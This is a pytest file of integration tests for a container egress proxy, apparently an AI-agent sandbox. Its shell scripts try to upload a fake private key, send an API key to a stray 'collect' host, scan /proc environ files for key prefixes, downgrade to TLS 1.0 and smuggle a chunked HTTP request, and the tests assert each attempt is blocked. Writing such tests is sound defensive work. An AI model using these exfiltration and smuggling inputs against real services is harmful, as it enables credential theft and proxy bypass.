"""Inspected HTTPS from a real agent container: curl, Python's urllib and git reach TLS
servers on the host's loopback (their own test CA) through the proxy, with no flag on the
client: the session's CA is in the container's trust store. Each outcome is checked where it
lands (the servers' records, the questions asked, the events)."""

from __future__ import annotations

import asyncio
import functools
import ssl
import subprocess
import threading
from collections.abc import Iterator
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import docker
import docker.errors
import pytest
import trustme

from app.audit import AuditLog
from app.consent import Answer, ConsentBroker, ConsentRequest, Verdict
from app.egress.bridge import Egress
from app.egress.keys import KeyringSecrets
from app.events import Event, EventBus
from app.grants import GrantRequest, Mode
from app.paths import Dirs
from app.profiles import ProfileCatalog, parse_profile
from app.sessions import LaunchRequest, SessionResult, Supervisor
from app.store import StateStore
from tests.netsupport import RecordingServer, StaticResolver, ca, secret_service, trusted_context
from tests.support import CollectedOutput, profile_text

__all__ = ["ca", "secret_service"]
pytestmark = pytest.mark.docker

PEM = "-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\\n-----END"


@pytest.fixture
def dirs(tmp_path: Path) -> Dirs:
    dirs = Dirs(config=tmp_path / "c", state=tmp_path / "s", runtime=tmp_path / "r")
    dirs.ensure()
    return dirs


def tls_server(ca: trustme.CA, name: str = "api.test") -> ssl.SSLContext:
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert(name).configure_cert(context)
    return context


class Approver:
    """Allows uploads to paths with `approve` in them; lets the others time out."""

    def __init__(self) -> None:
        self.asked: list[ConsentRequest] = []

    async def answer(self, request: ConsentRequest) -> Answer:
        self.asked.append(request)
        if "approve" in str(request.details.get("path", "")):
            return Answer(Verdict.ALLOW, by="test")
        await asyncio.Event().wait()
        raise AssertionError("unreachable")


@pytest.fixture
def git_server(ca: trustme.CA, tmp_path: Path) -> Iterator[tuple[int, str]]:
    """A bare repository served over HTTPS by a static file server (git's dumb protocol)."""
    work, bare = tmp_path / "work", tmp_path / "served" / "repo.git"
    env = {
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@t",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@t",
        "HOME": str(tmp_path),
        "PATH": "/usr/bin:/bin",
    }
    for command in (
        ["git", "init", "-q", "-b", "main", str(work)],
        ["git", "-C", str(work), "commit", "-q", "--allow-empty", "-m", "one"],
        ["git", "clone", "-q", "--bare", str(work), str(bare)],
        ["git", "-C", str(bare), "update-server-info"],
    ):
        subprocess.run(command, check=True, env=env, capture_output=True)
    head = subprocess.run(
        ["git", "-C", str(bare), "rev-parse", "main"],
        check=True,
        env=env,
        capture_output=True,
        text=True,
    ).stdout.strip()
    handler = functools.partial(SimpleHTTPRequestHandler, directory=str(bare.parent))
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.socket = tls_server(ca).wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield int(server.server_address[1]), head
    finally:
        server.shutdown()
        server.server_close()


SCRIPT = r"""
U="https://api.test:$UP"
code() { name=$1; shift
  echo "$name:$(curl -sS -o /dev/null -w '%{http_code}' --max-time 20 "$@" 2>&1)"; }
echo "cert-file:$SSL_CERT_FILE node:$NODE_EXTRA_CA_CERTS git:$GIT_SSL_CAINFO"
grep -c "PRIVATE" /etc/ssl/certs/ca-certificates.crt | sed 's/^/private-in-bundle:/'
code messages -d '{"model":"m"}' "$U/v1/messages"
code other "$U/other"
code approve --data-binary "$KEYTEXT" "$U/v1/approve"
code refuse --data-binary "$KEYTEXT" "$U/v1/refuse"
code granted --data-binary @"$GRANTED" "$U/v1/granted"
code untrusted "https://api.test:$UNTRUSTED/v1/messages"
code wrongname "https://api.test:$WRONGNAME/v1/messages"
python3 -c "
import urllib.request
r = urllib.request.urlopen(urllib.request.Request('$U/v1/messages', data=b'{}'))
print('urllib:', r.status, r.read().decode())"
git ls-remote "https://api.test:$GIT/repo.git" 2>&1 | sed 's/^/git:/'
python3 - <<PY
import socket, ssl, warnings
warnings.simplefilter("ignore")
def tunnel(port, context, name, send=None):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"CONNECT api.test:%d HTTP/1.1\r\nHost: api.test:%d\r\n\r\n" % (port, port))
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    try:
        t = context.wrap_socket(s, server_hostname=name)
    except ssl.SSLError as e:
        return "handshake failed: " + type(e).__name__
    t.sendall(send or b"GET /v1/x HTTP/1.1\r\nHost: api.test:%d\r\n\r\n" % port)
    return t.recv(200).split(b"\r\n")[0].decode()
port = $UP
old = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
old.load_verify_locations("/etc/ssl/certs/ca-certificates.crt")
old.set_ciphers("DEFAULT:@SECLEVEL=0")
old.minimum_version = old.maximum_version = ssl.TLSVersion.TLSv1
print("tls10:", tunnel(port, old, "api.test"))
lax = ssl.create_default_context()
lax.check_hostname = False
print("sni:", tunnel(port, lax, "elsewhere.test"))
good = ssl.create_default_context()
print("host:", tunnel(port, good, "api.test",
      b"GET /v1/x HTTP/1.1\r\nHost: elsewhere.test\r\n\r\n"))
print("smuggle:", tunnel(port, good, "api.test",
      b"POST /v1/x HTTP/1.1\r\nHost: api.test:%d\r\nContent-Length: 5\r\n"
      b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/smuggled HTTP/1.1\r\n"
      b"Host: api.test:%d\r\n\r\n" % (port, port)))
PY
"""


def test_curl_urllib_and_git_in_the_container_are_inspected_without_a_flag(
    dirs: Dirs,
    engine: docker.DockerClient,
    agent_image: str,
    ca: trustme.CA,
    git_server: tuple[int, str],
    tmp_path: Path,
) -> None:
    git_port, head = git_server
    notes = tmp_path / "notes.md"
    notes.write_text(
        "\n".join(f"confidential line {i} of the granted notes file here" for i in range(9))
    )
    approver = Approver()
    with (
        RecordingServer(tls_server(ca)) as upstream,
        RecordingServer(tls_server(trustme.CA())) as untrusted,
        RecordingServer(tls_server(ca, "other.test")) as wrong_name,
    ):
        bus = EventBus()
        egress = Egress(
            engine,
            secrets=KeyringSecrets(dirs.config / "secrets"),
            broker=ConsentBroker(bus, approver),
            resolver=StaticResolver({"api.test": ["127.0.0.1"]}),
            tls=trusted_context(ca),
        )
        ports = [upstream.port, untrusted.port, wrong_name.port, git_port]
        network = (
            "[network]\nallow_private = true\ninspect = true\n"
            f'allow = [{{ host = "api.test", ports = {ports}, '
            'paths = ["/v1/*", "/repo.git/*"] }]\n'
            '[approval]\nuploads = "ask"\ntimeout = "2s"\n'
        )
        env = (
            f'env = {{ UP = "{upstream.port}", UNTRUSTED = "{untrusted.port}", '
            f'WRONGNAME = "{wrong_name.port}", GIT = "{git_port}", '
            f'KEYTEXT = "{PEM}", GRANTED = "{notes}" }}\n'
        )
        text = profile_text(agent_image, ["sh", "-c", SCRIPT], pids=128)
        text = text.replace('timeout = "2m"\n', 'timeout = "2m"\n' + env) + network
        result, output, events = run_agent(dirs, engine, egress, bus, text, notes)
    lines = dict(line.split(":", 1) for line in output.splitlines() if ":" in line)
    assert result.exit_code == 0, output
    assert list(dirs.runtime.rglob("ca-bundle.pem")) == []  # gone with the session
    cert = "/etc/ssl/certs/ca-certificates.crt"
    assert lines["cert-file"] == f"{cert} node:{cert} git:{cert}"
    assert lines["private-in-bundle"] == "0"
    assert (lines["messages"], lines["other"]) == ("200", "403"), output
    assert lines["urllib"].startswith(" 200"), output
    assert f"{head}\trefs/heads/main" in lines.get("git", ""), output
    assert (lines["approve"], lines["refuse"], lines["granted"]) == ("200", "403", "403")
    assert (lines["untrusted"], lines["wrongname"]) == ("502", "502")
    assert lines["tls10"].strip().startswith("handshake failed"), output
    assert lines["sni"].strip().startswith("HTTP/1.1 421"), output
    assert lines["host"].strip().startswith("HTTP/1.1 400"), output
    assert lines["smuggle"].strip().startswith("HTTP/1.1 400"), output
    # At the servers: only what the rules and the user allowed.
    paths = [r["path"] for r in upstream.seen.requests]
    assert paths == ["/v1/messages", "/v1/approve", "/v1/messages"], paths
    assert upstream.seen.requests[1]["body"] == PEM.replace("\\n", "\n").encode()
    assert untrusted.seen.requests == [] and wrong_name.seen.requests == []
    asked = {str(r.details["path"]): r for r in approver.asked}
    assert set(asked) == {"/v1/approve", "/v1/refuse", "/v1/granted"}
    assert asked["/v1/refuse"].details["preview"].startswith("-----BEGIN OPENSSH")
    assert asked["/v1/granted"].details["findings"][0]["kind"] == "granted-file"
    net = [e for e in events if e.kind.startswith("net.")]
    rules = {e.details["rule"] for e in net if e.kind == "net.refused"}
    assert rules >= {
        "not-listed",
        "upload-refused",
        "upstream-certificate",
        "tls-version",
        "sni-mismatch",
        "host-mismatch",
        "bad-request",
    }, rules
    assert all(
        e.details.get("inspection") == "inspected"
        for e in net
        if e.details.get("host") == "api.test" and e.kind == "net.request"
    )


def run_agent(
    dirs: Dirs,
    engine: docker.DockerClient,
    egress: Egress,
    bus: EventBus,
    profile: str,
    grant: Path,
) -> tuple[SessionResult, str, list[Event]]:
    store = StateStore(dirs.database)
    events: list[Event] = []
    bus.attach(events.append)
    supervisor = Supervisor(
        engine, store, bus, dirs, ProfileCatalog(dirs.user_profiles), extensions=[egress]
    )
    request = LaunchRequest(
        parse_profile(profile, "t.toml"), Path("t.toml"), (GrantRequest(grant, Mode.READ),)
    )
    output = CollectedOutput()
    try:
        result = asyncio.run(supervisor.run(request, output))
    finally:
        store.close()
    return result, output.text(), events


SWAP = r"""
echo "key-env:$ANTHROPIC_API_KEY"
curl -sS -H "x-api-key: $ANTHROPIC_API_KEY" -d '{}' "https://api.test:$UP/v1/messages"; echo
curl -sS "https://api.test:$UP/echo-auth" -H "Authorization: Bearer $ANTHROPIC_API_KEY"
echo "stray:$(curl -sS -o /dev/null -w '%{http_code}' \
  -H "Authorization: Bearer $ANTHROPIC_API_KEY" "https://other.test:$OTHER/collect")"
# (Split, so that the script in /proc/1/cmdline does not match itself.)
echo "found:$(grep -rsl 'sk-ant-api0''3-' /etc /home /tmp /run /opt /proc/self/environ \
  /proc/1/environ /proc/1/cmdline 2>/dev/null | wc -l)"
env | sort
"""


def test_the_real_key_reaches_only_the_routes_upstream_never_the_container(
    dirs: Dirs,
    engine: docker.DockerClient,
    agent_image: str,
    ca: trustme.CA,
    secret_service: Any,
    tmp_path: Path,
) -> None:
    key = "sk-ant-api03-" + "Q7x" * 30
    secrets = KeyringSecrets(dirs.config / "secrets")
    secrets.set("anthropic", key)
    notes = tmp_path / "g.txt"
    notes.write_text("granted")
    with (
        RecordingServer(tls_server(ca)) as upstream,
        RecordingServer(tls_server(ca, "other.test")) as other,
    ):
        bus = EventBus()
        audit = AuditLog(dirs.audit)
        bus.attach(audit.sink)
        egress = Egress(
            engine,
            secrets=secrets,
            broker=None,
            resolver=StaticResolver({"api.test": ["127.0.0.1"], "other.test": ["127.0.0.1"]}),
            tls=trusted_context(ca),
        )
        text = profile_text(agent_image, ["sh", "-c", SWAP]).replace(
            'timeout = "2m"\n',
            f'timeout = "2m"\nenv = {{ UP = "{upstream.port}", OTHER = "{other.port}" }}\n',
        ) + (
            "[network]\nallow_private = true\n"
            f'allow = [{{ host = "other.test", ports = [{other.port}], inspect = true }}]\n'
            '[[network.routes]]\nname = "claude"\nsecret = "anthropic"\nintercept = true\n'
            f'upstream = "https://api.test:{upstream.port}"\n'
            'header = "x-api-key: {secret}"\nplaceholder_env = "ANTHROPIC_API_KEY"\n'
        )
        result, output, events = run_agent(dirs, engine, egress, bus, text, notes)
        audit.close()
    assert result.exit_code == 0, output
    lines = dict(line.split(":", 1) for line in output.splitlines() if ":" in line)
    assert lines["key-env"] == "airlock-placeholder-claude"
    assert lines["stray"] == "403" and lines["found"] == "0", output
    assert key not in output
    assert [r["headers"].get("x-api-key") for r in upstream.seen.requests] == [key, key]
    assert other.seen.requests == []
    refused = [e for e in events if e.kind == "net.refused"]
    assert [e.details["rule"] for e in refused] == ["placeholder"]
    logged = b"".join(p.read_bytes() for p in dirs.audit.glob("*.jsonl"))
    assert b"route:claude" in logged and b'"placeholder"' in logged
    assert key.encode() not in logged


NODE = "/opt/airlock/agent/gemini-cli/node/bin/node"


def test_nodes_fetch_trusts_the_session_ca_through_node_extra_ca_certs(
    dirs: Dirs,
    engine: docker.DockerClient,
    ca: trustme.CA,
    tmp_path: Path,
) -> None:
    image = "airlock-agent:gemini-cli"  # the agent image that carries Node
    try:
        engine.images.get(image)
    except docker.errors.ImageNotFound:
        pytest.fail(f"{image} is missing: `airlock image build --agent gemini-cli` makes it")
    script = (
        f"{NODE} -e \"fetch('https://api.test:' + process.env.UP + '/v1/node', "
        "{method: 'POST', body: '{}'}).then(r => r.text()).then(t => "
        "console.log('node:' + t), e => console.log('node-error:' + e.cause))\""
    )
    notes = tmp_path / "g.txt"
    notes.write_text("granted")
    with RecordingServer(tls_server(ca)) as upstream:
        bus = EventBus()
        egress = Egress(
            engine,
            secrets=KeyringSecrets(dirs.config / "secrets"),
            broker=None,
            resolver=StaticResolver({"api.test": ["127.0.0.1"]}),
            tls=trusted_context(ca),
        )
        text = profile_text(image, ["sh", "-c", script], memory="512m", pids=128).replace(
            'timeout = "2m"\n',
            'timeout = "2m"\n'
            # Node's own switch for HTTP(S)_PROXY (22.21 and later): its fetch ignores
            # them otherwise.
            f'env = {{ UP = "{upstream.port}", NODE_USE_ENV_PROXY = "1" }}\n',
        ) + (
            "[network]\nallow_private = true\n"
            f'allow = [{{ host = "api.test", ports = [{upstream.port}], inspect = true }}]\n'
        )
        result, output, events = run_agent(dirs, engine, egress, bus, text, notes)
    assert result.exit_code == 0, output
    assert '"path": "/v1/node"' in output, output
    assert [r["path"] for r in upstream.seen.requests] == ["/v1/node"]
    assert [e.details.get("inspection") for e in events if e.kind == "net.request"] == ["inspected"]
